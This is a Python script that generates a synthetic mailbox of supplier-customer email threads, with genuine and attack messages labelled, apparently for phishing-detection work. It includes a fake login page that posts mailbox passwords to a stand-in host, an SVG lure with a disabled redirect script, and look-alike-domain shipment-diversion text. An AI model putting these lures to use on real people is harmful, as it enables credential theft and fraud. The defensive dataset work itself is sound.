t24.add(megan, "Hi Giulia,\n\nHope you had a good summer! The Siena tote and the Lucca crossbody sold through faster than planned, so we'd like to reorder "
        "for holiday: 180 Siena totes (black 90, cognac 60, oxblood 30) and 120 Lucca crossbodies (black 70, taupe 50). Can you make early October "
        "ex-works?\n\nThanks,", at(2024, 9, 5, 8, 14, NYC))
t24.add(me, "Hi Megan,\n\ngreat news! Early October is tight for the oxblood, which needs a new leather lot: black and cognac can be ready on 4 October, "
        "oxblood by the 11th. Would a split shipment work for you, or do you prefer everything together on the 11th?\n\nBest regards", at(2024, 9, 5, 15, 30))
t24.add(megan, "Everything together on the 11th is fine. PO to follow from our system.", at(2024, 9, 5, 10, 40, NYC))
t24.add(megan, "PO HP-24-0906 attached. Same terms as spring: FCA Scandicci, net 60.", at(2024, 9, 6, 9, 2, NYC),
        atts=[("PO_HP-24-0906.pdf", pdf(["HUDSON & PIKE LEATHER GOODS INC. - PURCHASE ORDER HP-24-0906", "Vendor: Pelletteria Arnolfi S.r.l.",
                                         "Siena tote 180 / Lucca crossbody 120", "Terms: FCA Scandicci, net 60"], producer="NetSuite", when="20240906085800", zone="-04'00'"), "application/pdf")])
t24.add(me, "Thank you Megan, order confirmation attached.", at(2024, 9, 6, 16, 10),
        atts=[("Conferma ordine HP-24-0906.pdf", pdf(["Pelletteria Arnolfi S.r.l. - Order confirmation", "PO HP-24-0906", "Ready date 11/10/2024 FCA Scandicci"],
                                                     when="20240906160500", zone="+02'00'"), "application/pdf")])
t24.add(megan, "Our broker tells me the shipment landed at JFK this morning. Thanks for the smooth handling!", at(2024, 10, 16, 11, 20, NYC))
t24.add(me, "Glad to hear it! Have a great holiday season.", at(2024, 10, 16, 17, 45))
t24.add(megan, "Hi Giulia,\n\nreviving this old thread since it has all the style numbers: we'd like a similar reorder for spring, Siena tote in black and "
        "cognac (100 each) plus the Lucca crossbody in the new sage nappa if it's available (80). Can you send updated pricing?\n\nThanks,",
        at(2025, 3, 4, 9, 12, NYC), GH, scen=("G17", "US wholesaler revives a 5-month-old order thread for a new reorder"))
t24.add(me, "Hi Megan,\n\nhappy to hear from you! Updated price list attached; prices are unchanged except the sage nappa, which is +4%. Sage is available "
        "from the end of March, so everything could be ready mid-May.\n\nBest regards", at(2025, 3, 4, 17, 5),
        atts=[("Arnolfi price list US 2025.pdf", pdf(["Pelletteria Arnolfi - Wholesale price list USA 2025", "Siena tote USD 212", "Lucca crossbody USD 168 (sage nappa USD 175)"],
                                                     when="20250304165800"), "application/pdf")])
t24.add(megan, "Perfect. PO HP-25-0305 attached, ship date May 20 is fine.", at(2025, 3, 5, 10, 31, NYC),
        atts=[("PO_HP-25-0305.pdf", pdf(["HUDSON & PIKE LEATHER GOODS INC. - PURCHASE ORDER HP-25-0305", "Siena tote black 100 / cognac 100", "Lucca crossbody sage 80",
                                         "Ship date 05/20/2025 - FCA Scandicci, net 60"], producer="NetSuite", when="20250305102800", zone="-05'00'"), "application/pdf")])

# ================================================================ T25 Hudson & Pike: SS25 PO; DocuSign (G19); A7 server-hijack; AP (G18); OOO (G9); O1; A9
t25 = Thread("T24", megan, "SS25 order - PO HP-25-0122")
t25.add(megan, "Hi Giulia,\n\nattached is PO HP-25-0122 for the SS25 collection as discussed at the showroom: 420 units across 6 styles, ex-works March 20. "
        "Please confirm pricing and the ship date.\n\nBest,", at(2025, 1, 22, 10, 5, NYC),
        atts=[("PO_HP-25-0122.pdf", pdf(["HUDSON & PIKE LEATHER GOODS INC. - PURCHASE ORDER HP-25-0122", "420 units - 6 styles", "Ex-works 03/20/2025 FCA Scandicci, net 60"],
                                        producer="NetSuite", when="20250122100000", zone="-05'00'"), "application/pdf")])
t25.add(me, "Hi Megan,\n\nreceived, thank you! Order confirmation attached; March 20 is fine for all six styles.\n\nBest regards", at(2025, 1, 22, 17, 40),
        atts=[("Conferma ordine HP-25-0122.pdf", pdf(["Pelletteria Arnolfi S.r.l. - Order confirmation", "PO HP-25-0122", "Ready date 20/03/2025"], when="20250122173500"), "application/pdf")])
t25.add(megan, "Great. One more thing: our 2025 vendor agreement will come via DocuSign from our legal team next week. It's the same as last year, with "
        "updated insurance requirements.", at(2025, 1, 23, 9, 15, NYC))
bulk(dsign, at(2025, 1, 28, 14, 2, NYC), "Please DocuSign: Hudson & Pike Vendor Agreement 2025 - Pelletteria Arnolfi",
     "Megan O'Connell sent you a document to review and sign.\n\nREVIEW DOCUMENT: https://na4.docusign.net/Signing/EmailStart.aspx?a=" + ruuid() + "&etti=24&acct="
     + ruuid() + "&er=" + ruuid() + "\n\nMegan O'Connell\nmegan.oconnell@hudsonpike.example\n\nGiulia, please review and sign the 2025 vendor agreement. Thank you!\n\n"
     "Do Not Share This Email\nThis email contains a secure link to Docusign. Please do not share this email, link, or access code with others.\n\n"
     "About Docusign\nSign documents electronically in just minutes. It's safe, secure, and legally binding.",
     html_mail("Megan O'Connell sent you a document to review and sign.", ["Giulia, please review and sign the 2025 vendor agreement. Thank you!"],
               ("REVIEW DOCUMENT", "https://na4.docusign.net/Signing/EmailStart.aspx?a=" + ruuid() + "&etti=24"),
               "Do Not Share This Email. This email contains a secure link to Docusign.", "#1e4ca1"),
     extra=[("Reply-To", "Megan O'Connell <megan.oconnell@hudsonpike.example>"), ("X-DocuSign-Envelope-Id", ruuid())], label=GH,
     scen=("G19", "DocuSign envelope for the vendor agreement the buyer announced in the thread (notification, no reply headers, signing link)"))
t25.add(me, "Hi Megan,\n\nRoberto signed the vendor agreement in DocuSign this morning. The updated insurance certificate will follow from our broker.\n\nBest regards",
        at(2025, 1, 30, 11, 20))
t25.add(megan, "Got it, thanks!", at(2025, 1, 30, 8, 2, NYC))
t25.add(megan, "Hi Giulia,\n\nPlease review the updated PO and vendor compliance packet for SS25 before we release the shipment:\n\n"
        f"https://docs.google.com/presentation/d/e/2PACX-1v{alnum(80)}/pub?start=false&loop=false&delayms=3000\n\nLet me know once you've signed off.\n\nBest,",
        at(2025, 2, 13, 5, 41, NYC), HJ("server-hijack"),
        scen=("A7", "wholesaler's real Google Workspace mailbox (same headers): generic 'vendor compliance packet' on a published docs.google.com "
                    "presentation, capitalised greeting, quotes the real last message"))
t25.add(hpap, "Hello Giulia,\n\nPlease find attached the remittance advice for invoice 54/25 (PO HP-25-0122), USD 68,940.00, paid today by wire from "
        "JPMorgan Chase. Please allow 2-3 business days for the funds to arrive.\n\nRegards,", at(2025, 3, 28, 13, 40, NYC), GH, cc=[(megan.name, megan.email)],
        atts=[("Remittance_Advice_54-25.pdf", pdf(["HUDSON & PIKE LEATHER GOODS INC. - REMITTANCE ADVICE", "Vendor: Pelletteria Arnolfi S.r.l.", "Invoice 54/25 USD 68,940.00",
                                                   "Payment method: Wire - JPMorgan Chase"], producer="NetSuite", when="20250328133500", zone="-04'00'"), "application/pdf")],
        scen=("G18", "wholesaler's accounts-payable mailbox (new sender, same domain) joins the thread with a remittance advice PDF"))
t25.add(me, "Thank you, we'll confirm as soon as it's credited.", at(2025, 3, 31, 9, 5), to=[(hpap.name, hpap.email)], cc=[(megan.name, megan.email)])
giulia_0414 = ("Hi Megan,\n\npayment for invoice 54/25 received, thank you! For the spring reorder HP-25-0305: the Siena totes will be ready on May 16 and "
               "the Lucca in sage on May 19. I'll book the pickup with Fracassi for the 20th, delivery to your Secaucus DC with Kessler clearing as usual. "
               "Let me know if anything changes.\n\nBest regards")
t25.add(me, giulia_0414, at(2025, 4, 14, 10, 12), to=[(megan.name, megan.email)])
rec_0414 = t25.last; mid_0414 = t25.refs[-1]
t25.add(megan, "I'm out of the office until Tuesday, April 22, with limited access to email. For urgent matters, including shipments, please contact "
        "Dan Whitaker at dan.whitaker@hudsonpike.example.\n\nThanks,\nMegan", at(2025, 4, 14, 4, 13, NYC), GH, sig=False, quote=False, detached=True,
        extra=[("Auto-Submitted", "auto-replied"), ("Precedence", "bulk")],
        scen=("G9", "wholesaler buyer's Gmail vacation responder in the thread"))
megan_fwd = "<CA" + base64.urlsafe_b64encode(rbytes(42)).decode()[:54] + "@mail.gmail.com>"
emit(dan, "gws", at(2025, 4, 16, 9, 48, NYC), [(me.name, me.email)], [(megan.name, megan.email)], "Re: Fwd: SS25 order - PO HP-25-0122", [mid_0414, megan_fwd],
     "Hi Giulia,\n\nMegan forwarded me your note before she left. May 20 works for PO HP-25-0305: please book the pickup with your forwarder as usual, "
     "delivery to our Secaucus DC. Kessler will handle the entry, I've already sent them the PO. If the sage Luccas slip, ship the totes first.\n\nThanks,"
     + dan.sig + "\n\nOn Mon, Apr 14, 2025 at 7:02 AM Megan O'Connell <megan.oconnell@hudsonpike.example> wrote:\n\n> Dan, FYI while I'm out. Can you keep an eye on "
     "this one?\n>\n> ---------- Forwarded message ---------\n> From: Giulia Ferri <giulia.ferri@pelletteria-arnolfi.example>\n> Date: Mon, Apr 14, 2025 at 4:12 AM\n"
     "> Subject: R: SS25 order - PO HP-25-0122\n> To: Megan O'Connell <megan.oconnell@hudsonpike.example>\n>\n" + _lines(giulia_0414), label=GO,
     scen=("O1", "wholesaler's logistics coordinator answers a forward Megan sent him (the forward is not in the mailbox)"))
altered = giulia_0414.replace("delivery to your Secaucus DC with Kessler clearing as usual. Let me know if anything changes.",
                              "please confirm the delivery address and the broker for this shipment.") + me.sig
lkhp = Pt("Megan O'Connell", "megan.oconnell@hudson-pike.example", "privateemail", "look-hudson", megan.sig.replace("hudsonpike", "hudson-pike"), tz=NYC, lang="en")
t25.add(lkhp, "Hi Giulia,\n\nthanks for the update, and sorry for the slow reply, I just got back. One change on our side before you book the pickup for "
        "HP-25-0305: our Secaucus DC is being consolidated into a new 3PL, so please have this shipment delivered to:\n\nGarden State Fulfillment LLC\n"
        "c/o Hudson & Pike Receiving\n75 Raritan Center Pkwy, Dock 14\nEdison, NJ 08837\n\nSince the consignee changes, please also switch the terms to DAP "
        "Edison and send the commercial invoice and packing list to me directly rather than to Kessler; I'll coordinate the entry with the new broker. "
        "Dan is aware.\n\nThanks so much,", at(2025, 4, 24, 11, 26, NYC), HJ("lookalike-domain"), quote_rec=rec_0414, quote_text=altered, irt=mid_0414,
        opt={"ip": f"104.28.{R.randint(1, 250)}.{R.randint(2, 250)}"},
        scen=("A9", "wholesaler look-alike domain (hudson-pike): redirect the next shipment to a new NJ 3PL, DAP, documents to her only; the quote of "
                    "Giulia's mail is altered (Secaucus/Kessler sentence replaced by 'please confirm the delivery address'), no payload"))

# ================================================================ French customers
def sped(): return f"{R.randint(10, 99)}{digits(2)} {digits(4)} {digits(4)}"
def proforma(title, lines, when): return pdf([title] + lines, when=when)


# ---------------------------------------------------------------- T17 Atelier Sévigné (Orange webmail): Christmas restock
t17 = Thread("T16", camille, "Réassort Noël")
t17.add(camille, "Bonjour Giulia,\n\nJ'espère que vous allez bien. Pour les fêtes nous aimerions recommander :\n- 12 cabas Siena noir\n- 8 cabas Siena cognac\n"
        "- 15 pochettes Vela, couleurs assorties\n- 20 porte-cartes Ponte\nEst-ce possible pour une livraison mi-novembre ?\n\nBien à vous,", at(2024, 10, 8, 10, 55, PAR))
t17.add(me, "Bonjour Camille,\n\nmerci pour votre commande ! Tout est disponible sauf les pochettes Vela en vert sauge, que je peux remplacer par du "
        "bordeaux si cela vous convient. Livraison prévue le 14 novembre par Veloce Express. Je vous envoie la confirmation et la facture pro forma.\n\n"
        "Bien cordialement", at(2024, 10, 8, 12, 20),
        atts=[("Proforma PF 39-24 Atelier Sevigne.pdf", proforma("Pelletteria Arnolfi S.r.l. - Facture pro forma PF 39/24", ["Siena cabas noir x12, cognac x8",
                                                                                                                              "Vela pochette x15, Ponte porte-cartes x20", "Total HT EUR 3.920,00"], "20241008121500"), "application/pdf")])
t17.add(camille, "Le bordeaux, c'est parfait. Je vous fais le virement dès réception de la facture définitive.", at(2024, 10, 9, 9, 31, PAR))
s17 = sped()
t17.add(me, f"Bonjour Camille,\n\nla marchandise part aujourd'hui, numéro de suivi Veloce Express {s17}. Vous trouverez ci-joint la facture n. 196/24.\n\n"
        "Bien cordialement", at(2024, 11, 12, 11, 2),
        atts=[("Facture 196-24 Atelier Sevigne.pdf", pdf(["Pelletteria Arnolfi S.r.l. - Facture 196/24", "Atelier Sevigne - Paris", "Total HT EUR 3.920,00",
                                                         f"Virement: IBAN {IBAN_ARN}"], when="20241112105500"), "application/pdf")])
vx_notice(at(2024, 11, 12, 17, 40), s17, "Atelier Sevigne, Paris", "affidata")
vx_notice(at(2024, 11, 14, 8, 5), s17, "Atelier Sevigne, Paris", "consegna")
vx_notice(at(2024, 11, 14, 12, 31), s17, "Atelier Sevigne, Paris", "consegnata")
t17.add(camille, "Bien reçu, tout est parfait. Le virement est parti ce matin. Merci et à bientôt !", at(2024, 11, 15, 10, 12, PAR))

# ---------------------------------------------------------------- T18 Atelier Sévigné: spring order; G14 new iPhone; A3 account takeover HTML 'bon de commande'
t18 = Thread("T17", camille, "Collection printemps-été 2025")
t18.add(me, "Bonjour Camille,\n\nla nouvelle collection printemps-été est prête : je vous envoie le catalogue et les prix. Les nappas pastel (sauge, poudre, "
        "bleu poudré, beurre) sont notre nouveauté de la saison.\n\nBien cordialement", at(2025, 2, 4, 15, 12),
        atts=[("Catalogue Arnolfi SS25.pdf", pdf(["Pelletteria Arnolfi - Collection printemps-ete 2025", "Siena - Lucca - Vela - Ponte", "Nappa pastel: sauge, poudre, bleu poudre, beurre"],
                                                 producer="Adobe InDesign 19.5 (Macintosh)", when="20250130120000"), "application/pdf")])
t18.add(camille, "Merci Giulia, très jolie collection ! Je regarde avec mon associée et je reviens vers vous la semaine prochaine.", at(2025, 2, 6, 18, 40, PAR))
t18.add(camille, "Bonjour Giulia,\n\nje vous écris de mon nouveau téléphone, je suis au salon à la porte de Versailles. Nous prendrons 10 Lucca sauge, "
        "10 Lucca poudre et 6 Siena beurre. Je vous confirme tout par écrit lundi depuis la boutique.\n\nCamille\n\nEnvoyé de mon iPhone",
        at(2025, 2, 13, 16, 22, PAR), GH, client="iphonefr", sig=False, opt={"meip": f"37.169.{R.randint(1, 250)}.{R.randint(1, 250)}"},
        scen=("G14", "boutique owner writes from her new iPhone (helo smtpclient.apple, mobile IP, new Message-ID shape), says so in the text"))
t18.add(me, "Merci Camille, c'est noté ! J'attends votre confirmation lundi.", at(2025, 2, 13, 17, 5))
t18.add(camille, "Bonjour Giulia,\n\ncomme promis, je confirme : 10 Lucca sauge, 10 Lucca poudre, 6 Siena beurre, livraison début avril.\n\nBien à vous,",
        at(2025, 2, 17, 10, 3, PAR))
t18.add(me, "Parfait, confirmation OC 31/25 ci-jointe. Livraison la semaine du 7 avril.\n\nBien cordialement", at(2025, 2, 17, 11, 40),
        atts=[("Confirmation OC 31-25 Atelier Sevigne.pdf", pdf(["Pelletteria Arnolfi S.r.l. - Confirmation de commande OC 31/25", "Lucca sauge x10, poudre x10, Siena beurre x6",
                                                                  "Livraison semaine 15"], when="20250217113500"), "application/pdf")])
s18 = sped()
vx_notice(at(2025, 4, 7, 17, 20), s18, "Atelier Sevigne, Paris", "affidata")
vx_notice(at(2025, 4, 9, 11, 2), s18, "Atelier Sevigne, Paris", "consegnata")
t18.add(camille, "Colis reçu ce matin, les couleurs sont magnifiques en vrai ! Merci\n\nEnvoyé de mon iPhone", at(2025, 4, 9, 12, 14, PAR), client="iphonefr", sig=False,
        opt={"meip": f"37.169.{R.randint(1, 250)}.{R.randint(1, 250)}"})
bdc_html = ('<!DOCTYPE html><html lang="fr"><head><meta charset="utf-8"><title>Bon de commande - Atelier Sévigné</title>'
            '<style>body{font-family:Segoe UI,Arial;background:#eef1f5}.b{width:380px;margin:70px auto;background:#fff;padding:28px;border-radius:6px;'
            'box-shadow:0 2px 8px rgba(0,0,0,.15)}input{width:100%;padding:9px;margin:6px 0 14px;border:1px solid #bbb}button{background:#ff7900;color:#fff;'
            'border:0;padding:10px 24px}</style></head><body><div class="b"><img alt="" src="data:image/png;base64,' + b64(90) + '" width="40"><h3>Document '
            'partagé : BDC_ASV_0423.pdf (2 pages)</h3><p>Pour des raisons de sécurité, confirmez votre adresse e-mail professionnelle pour afficher le bon de '
            'commande.</p><form method="post" action="https://docs-bdc-partage.example/ov/auth.php"><input type="email" name="e" value="giulia.ferri@'
            'pelletteria-arnolfi.example"><input type="password" name="p" placeholder="Mot de passe de la messagerie"><button type="submit">Afficher le '
            'document</button></form><p style="font-size:11px;color:#888">Document protégé - Orange Business</p></div></body></html>')
t18.add(camille, "Bonjour,\n\nVeuillez trouver ci-joint notre bon de commande pour le réassort de mai. Merci de l'ouvrir dans votre navigateur et de nous "
        "confirmer les délais.\n\nCordialement,\nAtelier Sévigné", at(2025, 4, 23, 2, 48, PAR), HJ("account-takeover"), client="olatk", sig=False, quote=False,
        subj="RE: Collection printemps-été 2025", lang="en",
        opt={"mehelo": "DESKTOP-R4PQ1JX", "meip": f"45.137.{R.randint(1, 250)}.{R.randint(2, 250)}"},
        atts=[("Bon_de_commande_ASV_0423.html", bdc_html.encode(), "text/html")],
        scen=("A3", "boutique's Orange account used from a foreign IP with a desktop Outlook (new helo/ME-IP, Outlook Message-ID): HTML 'bon de commande' "
                    "that is a mailbox login page, no quote, 02:48"))

# ---------------------------------------------------------------- T19 Maison Ardoise (OVH, Apple Mail): showroom visit; G22 .ics
t19 = Thread("T18", julien, "Collection AW25 - rendez-vous à Paris")
t19.add(julien, "Bonjour Giulia,\n\nNous avons beaucoup aimé vos sacs au salon de septembre. Serait-il possible de voir la collection complète lors de votre "
        "prochain passage à Paris ?\n\nBien cordialement,", at(2024, 9, 12, 14, 40, PAR))
t19.add(me, "Bonjour Julien,\n\nmerci beaucoup ! Je serai à Paris du 14 au 16 octobre avec les prototypes de la collection AW25. Je peux passer à la "
        "boutique le mardi 15 dans l'après-midi, si cela vous convient.\n\nBien cordialement", at(2024, 9, 12, 16, 5))
ics = ("BEGIN:VCALENDAR\r\nMETHOD:REQUEST\r\nPRODID:-//Apple Inc.//macOS 14.6.1//EN\r\nVERSION:2.0\r\nBEGIN:VTIMEZONE\r\nTZID:Europe/Paris\r\n"
       "BEGIN:DAYLIGHT\r\nDTSTART:19810329T020000\r\nRRULE:FREQ=YEARLY;BYMONTH=3;BYDAY=-1SU\r\nTZNAME:UTC+2\r\nTZOFFSETFROM:+0100\r\nTZOFFSETTO:+0200\r\n"
       "END:DAYLIGHT\r\nBEGIN:STANDARD\r\nDTSTART:19961027T030000\r\nRRULE:FREQ=YEARLY;BYMONTH=10;BYDAY=-1SU\r\nTZNAME:UTC+1\r\nTZOFFSETFROM:+0200\r\n"
       "TZOFFSETTO:+0100\r\nEND:STANDARD\r\nEND:VTIMEZONE\r\nBEGIN:VEVENT\r\nATTENDEE;CN=\"Giulia Ferri\";CUTYPE=INDIVIDUAL;EMAIL=\"giulia.ferri@pelletteria-arnolfi.example\";"
       "PARTSTAT=NEEDS-ACTION;ROLE=REQ-PARTICIPANT;RSVP=TRUE:mailto:giulia.ferri@pelletteria-arnolfi.example\r\nCREATED:20240913T073512Z\r\n"
       "DTEND;TZID=Europe/Paris:20241015T163000\r\nDTSTAMP:20240913T073514Z\r\nDTSTART;TZID=Europe/Paris:20241015T150000\r\n"
       "LOCATION:Maison Ardoise\\, 61 rue du Cherche-Midi\\, 75006 Paris\r\nORGANIZER;CN=\"Julien Mercier\";EMAIL=\"julien@maison-ardoise.example\":"
       "mailto:julien@maison-ardoise.example\r\nSEQUENCE:0\r\nSUMMARY:Rendez-vous Pelletteria Arnolfi - collection AW25\r\nUID:" + ruuid().upper() + "\r\n"
       "END:VEVENT\r\nEND:VCALENDAR\r\n")
t19.add(julien, "Parfait, mardi 15 à 15h. Je vous mets l'invitation de mon calendrier en pièce jointe.", at(2024, 9, 13, 9, 36, PAR), GH,
        atts=[("invite.ics", ics.encode(), "text/calendar; charset=utf-8; method=REQUEST")],
        scen=("G22", "boutique owner's Apple Calendar invitation (.ics) for the showroom visit, attached to his reply"))
t19.add(me, "Merci, c'est dans mon agenda !", at(2024, 9, 13, 10, 2))
t19.add(julien, "Merci pour votre visite hier, très belle collection. Nous vous enverrons notre commande début janvier, après l'inventaire.",
        at(2024, 10, 16, 9, 20, PAR))
t19.add(me, "Merci à vous Julien, à très bientôt !\n\nGiulia\n\nInviato da iPhone", at(2024, 10, 16, 13, 48), client="iphoneit", sig=False)

# ---------------------------------------------------------------- T20 Maison Ardoise: spring order; A12 server-hijack voicemail SVG (English)
t20 = Thread("T19", julien, "Commande printemps 2025")
t20.add(julien, "Bonjour Giulia,\n\nMeilleurs vœux ! Voici notre commande pour le printemps :\n- Siena cabas noir x 6\n- Lucca bandoulière sauge x 8, poudre x 8\n"
        "- Pochette Vela beurre x 10\nLivraison souhaitée début mars, conditions habituelles (virement à 30 jours).\n\nBien cordialement,", at(2025, 1, 9, 10, 14, PAR))
t20.add(me, "Bonjour Julien,\n\nmeilleurs vœux à vous aussi ! Commande bien reçue, confirmation OC 12/25 ci-jointe. Livraison prévue la semaine du 3 mars.\n\n"
        "Bien cordialement", at(2025, 1, 9, 11, 30),
        atts=[("Confirmation OC 12-25 Maison Ardoise.pdf", pdf(["Pelletteria Arnolfi S.r.l. - Confirmation de commande OC 12/25", "Siena noir x6, Lucca sauge x8, poudre x8",
                                                                 "Vela beurre x10", "Livraison semaine 10"], when="20250109112500"), "application/pdf")])
t20.add(julien, "Parfait, merci.", at(2025, 1, 10, 8, 51, PAR))
s20 = sped()
t20.add(me, f"Bonjour Julien,\n\nla marchandise est partie ce matin avec Veloce Express (n° {s20}), livraison prévue jeudi. Facture 61/25 ci-jointe.\n\n"
        "Bien cordialement", at(2025, 3, 3, 10, 40),
        atts=[("Facture 61-25 Maison Ardoise.pdf", pdf(["Pelletteria Arnolfi S.r.l. - Facture 61/25", "Maison Ardoise - Paris", "Total HT EUR 2.964,00",
                                                       f"Virement a 30 jours: IBAN {IBAN_ARN}"], when="20250303103500"), "application/pdf")])
vx_notice(at(2025, 3, 3, 17, 55), s20, "Maison Ardoise, Paris", "affidata")
vx_notice(at(2025, 3, 6, 11, 40), s20, "Maison Ardoise, Paris", "consegnata")
t20.add(julien, "Bien reçu hier, tout est en ordre. Les Lucca sauge sont déjà en vitrine !", at(2025, 3, 7, 9, 5, PAR))
svg = ('<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="420" height="160" viewBox="0 0 420 160">\n'
       '<rect width="420" height="160" rx="10" fill="#f4f6f8"/>\n<circle cx="60" cy="80" r="34" fill="#2d7ff9"/>\n<polygon points="50,62 50,98 80,80" fill="#fff"/>\n'
       '<text x="115" y="70" font-family="Arial" font-size="18" fill="#222">Voice message 00:47</text>\n'
       '<text x="115" y="98" font-family="Arial" font-size="13" fill="#666">From +33 1 42 55 38 90 - click to play</text>\n'
       '<script type="text/javascript"><![CDATA[\n/* inert probe placeholder: the redirect below is disabled */\n'
       f'var target = "https://vm-player-secure.example/listen/?id={alnum(16)}&u=Z2l1bGlhLmZlcnJp";\n/* window.location.href = target; */\n]]></script>\n</svg>\n')
t20.add(julien, "Hello,\n\nYou have a new voice message (00:47) from +33 1 42 55 38 90.\nThe audio is attached, open it in your browser to listen.\n\nThank you",
        at(2025, 3, 19, 13, 4, PAR), HJ("server-hijack"), sig=False, quote=False, lang="en",
        atts=[("VoiceMessage_0047.svg", svg.encode(), "image/svg+xml")],
        scen=("A12", "boutique's real OVH mailbox with the usual Apple Mail headers: English 'voice message' notice with an SVG (script redirect) "
                     "in a French thread, no quote, no signature"))

# ---------------------------------------------------------------- T21 DRM Lyon (M365, Outlook FR): AW24 order; G21 XLSX BDC; Thomas SharePoint links (G20)
t21 = Thread("T20", nathalie, "Réassort AW24 - disponibilités")
t21.add(me, "Bonjour Nathalie,\n\nvoici les disponibilités pour le réassort AW24 et la liste de prix distributeur. La plupart des modèles sont disponibles "
        "pour la semaine 41.\n\nBien cordialement", at(2024, 9, 2, 10, 20),
        atts=[("Disponibilites AW24 DRM.pdf", pdf(["Pelletteria Arnolfi - Disponibilites AW24 - prix distributeur", "Siena, Lucca, Vela, Ponte", "Livraison semaine 41"],
                                                  when="20240902101500", zone="+02'00'"), "application/pdf")])
bdc = xlsx([["DISTRIBUTION RHONE MAROQUINERIE - BON DE COMMANDE", "", "", ""], ["N. BDC", "2024-117", "Fournisseur", "Pelletteria Arnolfi"],
            ["Reference", "Designation", "Couleur", "Quantite"], ["SIE-CAB", "Cabas Siena", "noir", 60], ["SIE-CAB", "Cabas Siena", "cognac", 40],
            ["LUC-BAN", "Bandouliere Lucca", "taupe", 50], ["VEL-POC", "Pochette Vela", "bordeaux", 20], ["PON-PC", "Porte-cartes Ponte", "noir", 120],
            ["Livraison", "Semaine 41 - entrepot Villeurbanne", "", ""]], "Nathalie Girard", "2024-09-03T07:40:00Z", "BDC")
t21.add(nathalie, "Bonjour Giulia,\n\nmerci. Voici notre bon de commande AW24 au format habituel. Livraison souhaitée semaine 41 à notre entrepôt de "
        "Villeurbanne.\n\nCordialement,", at(2024, 9, 3, 9, 45, PAR), GH, atts=[("BDC_DRM_2024-117_Arnolfi.xlsx", bdc, XLSX)],
        scen=("G21", "distributor's genuine order form (bon de commande) as an XLSX attachment"))
t21.add(me, "Bonjour Nathalie,\n\nmerci, commande bien reçue. Tout est disponible pour la semaine 41 sauf les 20 Vela bordeaux (semaine 43). Je vous "
        "envoie la confirmation.\n\nBien cordialement", at(2024, 9, 3, 11, 5),
        atts=[("Confirmation OC 142-24 DRM.pdf", pdf(["Pelletteria Arnolfi S.r.l. - Confirmation de commande OC 142/24", "BDC DRM 2024-117",
                                                      "Livraison semaine 41 (Vela bordeaux semaine 43)"], when="20240903110000", zone="+02'00'"), "application/pdf")])
t21.add(nathalie, "OK pour la livraison partielle. Je mets Thomas en copie pour la logistique.", at(2024, 9, 4, 8, 50, PAR), cc=[(thomas.name, thomas.email)])
t21.add(thomas, "Bonjour Giulia,\n\npour la livraison de la semaine 41, merci de respecter notre cahier des charges de palettisation (version 2024) et de "
        "nous envoyer la liste de colisage 48 h avant l'enlèvement :\n"
        f"https://drmlyon.sharepoint.com/:b:/s/Logistique/E{alnum(21)}?e={alnum(6)}\n\nCordialement,", at(2024, 9, 30, 14, 12, PAR))
s21 = sped()
t21.add(me, f"Bonjour Thomas,\n\nliste de colisage ci-jointe, enlèvement jeudi 10 par Veloce Express (n° {s21}).\n\nBien cordialement", at(2024, 10, 7, 10, 5),
        to=[(thomas.name, thomas.email)], cc=[(nathalie.name, nathalie.email)],
        atts=[("Liste de colisage OC 142-24.pdf", pdf(["Liste de colisage - OC 142/24", "38 colis - 412 kg"], when="20241007100000", zone="+02'00'"), "application/pdf")])
t21.add(thomas, "Merci. Merci de déposer aussi les étiquettes colis sur notre espace fournisseurs avant l'enlèvement :\n"
        f"https://drmlyon.sharepoint.com/:f:/s/Fournisseurs/E{alnum(21)}?e={alnum(6)}", at(2024, 10, 7, 11, 30, PAR))
vx_notice(at(2024, 10, 10, 17, 30), s21, "Distribution Rhone Maroquinerie, Villeurbanne", "affidata")
vx_notice(at(2024, 10, 14, 10, 10), s21, "Distribution Rhone Maroquinerie, Villeurbanne", "consegnata")
t21.add(thomas, "Réception OK pour les 38 colis. Un carton légèrement abîmé, contenu intact ; photo sur le SharePoint :\n"
        f"https://drmlyon.sharepoint.com/:i:/s/Logistique/E{alnum(21)}?e={alnum(6)}", at(2024, 10, 14, 15, 2, PAR))
t21.add(me, "Bonjour Thomas,\n\nles 20 Vela bordeaux partent demain, liste de colisage ci-jointe.\n\nBien cordialement", at(2024, 10, 22, 16, 10),
        to=[(thomas.name, thomas.email)], atts=[("Liste de colisage OC 142-24 solde.pdf", pdf(["Liste de colisage - OC 142/24 solde", "2 colis - 14 kg"],
                                                                                               when="20241022160500", zone="+02'00'"), "application/pdf")])
t21.add(thomas, "Merci Giulia. Le nouveau modèle de liste de colisage 2025 est ici, à utiliser à partir de la prochaine livraison :\n"
        f"https://drmlyon.sharepoint.com/:x:/s/Logistique/E{alnum(21)}?e={alnum(6)}\n\nCordialement,", at(2024, 10, 22, 17, 3, PAR), GH,
        scen=("G20", "distributor's logistics contact sends yet another SharePoint link (he always does) for the new packing-list template"))
t21.add(nathalie, "Bonjour Giulia,\n\ntout est bien arrivé et se vend très bien. La facture 191/24 a été réglée ce jour par virement.\n\nCordialement,",
        at(2024, 11, 20, 10, 40, PAR))

# ---------------------------------------------------------------- T22 DRM: SS25 samples; G13 new assistant; G8 OOO; A4 OWA account takeover
t22 = Thread("T21", nathalie, "Échantillons collection SS25")
t22.add(nathalie, "Bonjour Giulia,\n\nbonne année ! Pour préparer nos rendez-vous clients de février, pourriez-vous nous envoyer des échantillons de la "
        "collection SS25 : les 6 modèles dont nous avons parlé à Paris, en cognac et en noir ?\nPar ailleurs, je vous présente Inès Moreau, qui rejoint notre "
        "équipe comme assistante achats à partir du 20 janvier ; elle suivra les commandes avec moi. Je la mets en copie.\n\nCordialement,",
        at(2025, 1, 14, 9, 5, PAR), cc=[(ines.name, ines.email)])
t22.add(me, "Bonjour Nathalie,\n\nbonne année à vous aussi ! Les échantillons partent la semaine prochaine à votre adresse de Villeurbanne. Bienvenue à Inès !\n\n"
        "Bien cordialement", at(2025, 1, 14, 10, 12), cc=[(ines.name, ines.email)])
s22 = sped()
vx_notice(at(2025, 1, 21, 17, 10), s22, "Distribution Rhone Maroquinerie, Villeurbanne", "affidata")
vx_notice(at(2025, 1, 23, 10, 45), s22, "Distribution Rhone Maroquinerie, Villeurbanne", "consegnata")
prev = xlsx([["DRM - Previsionnel SS25", "", "", ""], ["Reference", "Designation", "Quantite prev.", "Delai fournisseur"], ["SIE-CAB", "Cabas Siena", 180, ""],
